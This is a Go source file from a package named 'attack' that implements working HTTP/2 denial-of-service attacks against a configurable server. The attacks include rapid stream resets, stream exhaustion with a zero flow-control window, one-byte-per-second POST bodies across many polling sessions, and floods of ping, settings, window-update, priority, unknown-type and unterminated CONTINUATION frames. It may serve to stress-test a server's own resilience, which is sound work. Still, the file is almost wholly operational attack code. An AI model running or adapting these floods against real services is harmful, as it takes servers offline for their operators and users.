//go:build linux

package attack

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streams is how many streams of a connection net/http serves at a time.
const streams = 250

// h2 is a connection of HTTP/2. One goroutine writes, one reads.
type h2 struct {
	*raw
	out    *bufio.Writer
	framer *http2.Framer
	block  bytes.Buffer
	pack   *hpack.Encoder
	last   uint32 // stream
}

// http2 connects with HTTP/2.
func (f *Field) http2(settings ...http2.Setting) (*h2, error) {
	c, err := f.dialTo(f.target.Secure, 0)
	if err != nil {
		return nil, err
	}
	conn, err := f.secure(c, &tls.Config{NextProtos: []string{http2.NextProtoTLS}})
	if err != nil {
		c.leave()
		return nil, err
	}
	h := &h2{raw: c, out: bufio.NewWriter(conn)}
	h.framer = http2.NewFramer(h.out, bufio.NewReader(conn))
	h.framer.AllowIllegalWrites = true
	h.pack = hpack.NewEncoder(&h.block)
	h.out.WriteString(http2.ClientPreface)
	h.framer.WriteSettings(settings...)
	if err := h.out.Flush(); err != nil {
		c.leave()
		return nil, err
	}
	return h, nil
}

// header packs the head of a request; length is that of its body, 0 for none.
func (h *h2) header(method, target string, length string) []byte {
	h.block.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: h.f.target.Secure}, {Name: ":path", Value: target},
	}
	if length != "" {
		fields = append(fields, hpack.HeaderField{Name: "content-length", Value: length},
			hpack.HeaderField{Name: "content-type", Value: "text/plain;charset=UTF-8"})
	}
	for _, field := range fields {
		_ = h.pack.WriteField(field) // to memory
	}
	return h.block.Bytes()
}

// open begins a request on a stream of its own; the bytes leave with Flush.
func (h *h2) open(method, target, length string) (stream uint32, err error) {
	stream = h.last + 1
	h.last += 2
	return stream, h.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: h.header(method, target, length), EndStream: length == "", EndHeaders: true,
	})
}

// drain reads frames until the connection ends, and counts the answers that
// have begun. Each frame of data goes to take, unless that is nil. What asks
// for an answer gets none: net/http does not wait for one.
func (h *h2) drain(take func(data []byte) (enough bool)) error {
	for {
		frame, err := h.framer.ReadFrame()
		if err != nil {
			return err
		}
		switch frame := frame.(type) {
		case *http2.HeadersFrame:
			h.f.count("answers", 1)
		case *http2.DataFrame:
			if take != nil && take(frame.Data()) {
				return nil
			}
		}
	}
}

// h2Reset opens streams and resets them at once.
func h2Reset(f *Field) {
	const batch = 64
	f.repeat(4, func() error {
		h, err := f.http2()
		if err != nil {
			return err
		}
		defer h.leave()
		go func() { _ = h.drain(nil) }()
		for {
			for range batch {
				stream, err := h.open("GET", path+"polling", "")
				if err != nil {
					return err
				}
				if err := h.framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
					return err
				}
			}
			if err := h.out.Flush(); err != nil {
				return err
			}
			f.count("resets", batch)
		}
	})
}

// h2Streams opens as many streams as it may, for answers that it does not let
// the server send.
func h2Streams(f *Field) {
	f.repeat(40, func() error {
		h, err := f.http2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer h.lost()
		for range streams {
			if _, err := h.open("GET", path+"polling", ""); err != nil {
				return err
			}
			f.count("streams", 1)
		}
		if err := h.out.Flush(); err != nil {
			return err
		}
		return h.drain(nil)
	})
}

// h2Bodies sends bodies of POST requests one byte a second, on as many streams
// as it may, each of a session of its own.
func h2Bodies(f *Field) {
	f.repeat(20, func() error {
		h, err := f.http2()
		if err != nil {
			return err
		}
		defer h.lost()
		for range streams {
			if _, err := h.open("GET", path+"polling", ""); err != nil {
				return err
			}
		}
		if err := h.out.Flush(); err != nil {
			return err
		}
		var sids []string
		err = h.drain(func(data []byte) bool {
			if _, rest, found := strings.Cut(string(data), `"sid":"`); found {
				sid, _, _ := strings.Cut(rest, `"`)
				sids = append(sids, sid)
			}
			return len(sids) == streams
		})
		if err != nil {
			return err
		}
		var open []uint32
		for _, sid := range sids {
			stream, err := h.open("POST", path+"polling&sid="+sid, "1000000")
			if err != nil {
				return err
			}
			open = append(open, stream)
			f.count("bodies", 1)
		}
		ended := make(chan error, 1)
		go func() { ended <- h.drain(nil) }()
		for {
			for _, stream := range open {
				if err := h.framer.WriteData(stream, false, []byte("x")); err != nil {
					return err
				}
			}
			if err := h.out.Flush(); err != nil {
				return err
			}
			select {
			case err := <-ended:
				return err
			case <-time.After(time.Second):
			case <-f.ctx.Done():
				return nil
			}
		}
	})
}

// h2Frames floods connections with frames of one kind that bring no request,
// and reads no answer.
func h2Frames(f *Field) {
	kinds := []func(h *h2) error{
		func(h *h2) error { return h.framer.WritePing(false, [8]byte{1}) },
		func(h *h2) error {
			return h.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
		},
		func(h *h2) error { return h.framer.WriteWindowUpdate(0, 1) },
		func(h *h2) error { return h.framer.WritePriority(1, http2.PriorityParam{StreamDep: 3}) },
		func(h *h2) error { return h.framer.WriteRawFrame(0xfa, 0, 1, filler[:100]) }, // of no known type
		func(h *h2) error { // a head without an end
			if h.last == 0 {
				h.last = 1
				return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.header("GET", path+"polling", "")})
			}
			return h.framer.WriteContinuation(1, false, append([]byte{0, 1, 'x', 100}, filler[:100]...))
		},
	}
	for _, kind := range kinds {
		f.repeat(2, func() error {
			h, err := f.http2()
			if err != nil {
				return err
			}
			defer h.leave()
			for {
				if err := kind(h); err != nil {
					return err
				}
				f.count("frames", 1)
			}
		})
	}
}
